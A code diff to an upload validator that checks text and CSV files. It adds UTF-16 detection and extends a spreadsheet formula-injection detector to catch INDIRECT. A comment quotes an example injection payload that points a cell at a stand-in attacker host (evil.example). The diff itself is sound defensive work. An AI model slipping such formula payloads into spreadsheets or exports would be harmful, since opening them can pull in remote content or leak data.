@@ -1178,6 +1178,10 @@ def text_problem(data: bytes, ext: str) -> str | None:
     """Text is text: UTF-8 (or plain ASCII), no NUL bytes, and not a web
     page that a browser could be persuaded to run; a CSV holds no formula."""
     if b"\0" in data:
+        if data[:2] in (b"\xff\xfe", b"\xfe\xff") or data[1:200:2].count(0) > 50 or data[0:200:2].count(0) > 50:
+            # Excel's "Unicode Text", which some exports write (thirty-ninth round: said as binary data).
+            return (f"is saved as UTF-16 (Excel's \"Unicode Text\"), which the site does not publish: save it again "
+                    "as UTF-8 (in Excel: Save As, CSV UTF-8)")
         return f"is not {FILE_TYPES[ext]}: it holds binary data"
     if HTML_START_RE.match(data.lstrip(b"\xef\xbb\xbf")):
         return f"is not {FILE_TYPES[ext]}: it is a web page (HTML or SVG)"
@@ -1248,11 +1252,17 @@ def _quoted_file_reference(code: str) -> bool:
                                for name, hashed in QUOTED_NAME_RE.findall(code))
 
 
+INDIRECT_RE = re.compile(r"(?<![\w.])(?:[A-Za-z_]\w*\.)*INDIRECT\s*\(", re.I)
+
+
 def _signed_cell_runs(cell: str) -> bool:
     """Whether a cell that starts with `+`, `-` or `@` would reach another
     program, file or computer, read as a formula."""
     code = EXCEL_STRING_RE.sub('""', cell)
+    # INDIRECT turns text into a reference, another file's cell too
+    # (`+INDIRECT("'https://evil.example/x.ods'#$Sheet1.A1")`: thirty-ninth round).
     return bool(DDE_RE.search(code) or UNQUOTED_BOOK_RE.search(code) or EXCEL_HYPERLINK_RE.search(cell)
+                or INDIRECT_RE.search(code)
                 or _quoted_file_reference(code) or EXCEL_FUNCTION_RE.search(code)
                 or LAMBDA_HELPER_RE.search(code) and BARE_FUNCTION_RE.search(code))
 
